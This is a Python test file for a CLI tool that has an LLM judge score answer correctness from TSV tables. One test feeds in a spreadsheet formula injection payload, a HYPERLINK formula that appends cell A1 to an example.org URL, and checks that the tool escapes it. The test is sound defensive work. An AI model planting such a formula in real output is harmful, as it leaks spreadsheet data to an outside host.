"""``answer-correctness``."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING, Any

import pytest

from tests.cli.beside import Beside, run_beside
from tests.cli.judged import KEY, claims, config, failing, honest, serving
from tests.cli.support import run
from tests.support.judge_server import NEVER, completion

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    from tests.cli.support import Folder

IN = ["Question", "Reference answer", "Actual answer"]
COMMAND = ["answer-correctness", "-i", "in.tsv", "-o", "out.tsv"]
OUT = ["#Reference", "#PTarget", "#Matching", "Reasoning", "Error"]

ROWS = [
    ["Which?", "red blue", "red green\nyellow"],
    ['a "quoted"\tone', "red", "no\r\nmatch"],
    ["", "red", "red"],
    ["?", "", "red"],
    ["?", "red", " "],
    ["last", "\u00e9t\u00e9 \U0001f600", "\U0001f600"],
]


@pytest.fixture(autouse=True)
def _within_the_folder(monkeypatch: pytest.MonkeyPatch, folder: Folder) -> None:
    monkeypatch.chdir(folder.path)


def write(
    path: Path, rows: Sequence[Sequence[str]], *, header: Sequence[str] = IN, **dialect: Any
) -> None:
    with open(path, "w", newline="", encoding="utf-8") as file:
        csv.writer(file, "excel-tab", **dialect).writerows([header, *rows])


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file, "excel-tab")
    assert header == OUT
    return rows


def judged(row: Sequence[str]) -> list[str]:
    """What the honest judge makes of a row, if it is asked."""
    missing = [f"no {IN[i].lower()}" for i in range(3) if not row[i].strip()]
    if missing:
        return ["", "", "", "", f"skipped: {' and '.join(missing)}"]
    found = claims(*row)
    counts = [len(found[name]) for name in ("reference_claims", "actual_claims", "matches")]
    return [*map(str, counts), found["reason"], ""]


def numbered(count: int) -> list[list[str]]:
    return [[f"riddle {i:04}", "red blue", f"red\ngreen {i}"] for i in range(count)]


def test_every_row_in_its_order(folder: Folder, capfd: pytest.CaptureFixture[str]) -> None:
    write(table := folder.path / "in.tsv", ROWS)
    table.write_bytes(b"\xef\xbb\xbf" + table.read_bytes())  # As spreadsheets do.
    with serving() as server:
        arguments = ["-i", "in.tsv", "-o", "out.tsv", "-c", config(folder.path, server)]
        assert run("answer-correctness", *arguments) == 0
        assert server.counts.requests == 3
    rows = read(folder.path / "out.tsv")
    assert rows == list(map(judged, ROWS))
    out, err = capfd.readouterr()
    assert not out
    assert err.startswith("rows: 6 of 6; not judged: 3 skipped\njudge gpt-4o-mini: 3 calls, ")


def test_no_judge_writes_formulas(folder: Folder) -> None:
    formula = '=HYPERLINK("http://example.org/?" & A1; "more")'
    write(folder.path / "in.tsv", [["q", "red", "red"]])
    with serving(
        failing("", completion(claims("q", "red", "red") | {"reason": formula}))
    ) as server:
        arguments = ["-i", "in.tsv", "-c", config(folder.path, server), "-o", "out.tsv"]
        assert run("answer-correctness", *arguments) == 0
    assert read(folder.path / "out.tsv") == [["1", "1", "1", f"'{formula}", ""]]


def test_other_tables_are_refused(folder: Folder, capfd: pytest.CaptureFixture[str]) -> None:
    header = b"Question\tReference answer\tActual answer\n"
    for table, problem in (
        (b"Question\tActual answer\n", "no column 'Reference answer'"),
        (header + b'q\tr\t"a\n', "line 2: a quoted field does not end"),
    ):
        folder.write("in.tsv", table)
        assert run(*COMMAND, "-c", config(folder.path, None)) == 2
        assert problem in capfd.readouterr().err


def test_a_run_that_was_stopped_is_resumed(folder: Folder) -> None:
    """Rows that were changed since are judged again."""
    rows = numbered(30)
    write(folder.path / "in.tsv", rows)
    journal = folder.path / "out.tsv.journal"
    with serving(failing("riddle 0012", NEVER)) as server:
        command = [
            *COMMAND,
            "-c",
            config(folder.path, server, llm={"limits": {"max_concurrency": 4}}),
        ]

        def drive(beside: Beside) -> None:
            beside.until(
                lambda: journal.exists() and journal.read_bytes().count(b"\n") == 12, "twelve rows"
            )
            beside.signal()

        code, _, err = run_beside(folder.path, drive, *command)
        assert code == 130
        found = read(folder.path / "out.tsv")  # The last may not have come out of the journal yet.
        assert found == list(map(judged, rows[: len(found)]))
        assert f"rows: {len(found)} of 30\n" in err
        server.script = honest
        before = server.counts.requests
        rows[3][2] = "red as well"
        write(folder.path / "in.tsv", rows)
        assert run(*command) == 0
        assert server.counts.requests - before <= 19
    assert read(folder.path / "out.tsv") == list(map(judged, rows))


def test_wrong_usage_changes_nothing(
    folder: Folder, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    write(folder.path / "in.tsv", ROWS)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    config(folder.path, None)
    folder.write("mine.tsv", b"mine")
    for arguments, problem in [
        (["-i", "in.tsv", "-o", "mine.tsv"], "mine.tsv' exists, without 'mine.tsv.journal'"),
        (
            ["-i", "in.tsv", "-o", "new.tsv", "-c", "config.yaml", "--llm", "openai/m"],
            "--llm cannot be",
        ),
        (["-i", "-", "-o", "new.tsv"], "cannot come from standard input"),
        (["-i", "in.tsv", "-o", "in.tsv", "-c", "config.yaml"], "is given twice"),
    ]:
        before = {path.name: path.read_bytes() for path in folder.path.iterdir()}
        assert run("answer-correctness", *arguments) == 2
        assert {path.name: path.read_bytes() for path in folder.path.iterdir()} == before
        assert problem in capfd.readouterr().err
